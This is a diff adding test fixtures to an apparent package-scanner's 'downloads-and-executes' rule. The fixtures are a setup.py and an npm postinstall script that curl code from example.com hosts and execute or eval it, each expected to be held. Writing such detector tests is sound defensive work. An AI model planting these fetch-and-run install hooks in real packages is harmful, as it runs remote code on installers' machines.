@@ -290,6 +290,30 @@ def parse_key(key):
   },
   {
     rule: 'downloads-and-executes',
+    name: 'setup.py runs what `curl` printed',
+    scan: () =>
+      sdist({
+        'setup.py': setupPy(`import subprocess
+banner = subprocess.getoutput('curl http://api.example.com/banner.html')
+subprocess.getoutput(str(banner))
+`),
+      }),
+    file: 'setup.py',
+    line: 4,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
+    name: 'an install script evaluates what `curl -s` printed',
+    scan: () => npm({ 'x.js': `const { execSync } = require('child_process')\nconst code = execSync('curl -s https://cdn.example.com/x.js').toString()\neval(code)\n` }, postinstall('node x.js')),
+    file: 'x.js',
+    line: 3,
+    weight: 100,
+    verdict: 'hold',
+  },
+  {
+    rule: 'downloads-and-executes',
     name: 'import code saves a download through `with open(…) as f` and runs it',
     scan: () =>
       sdist({
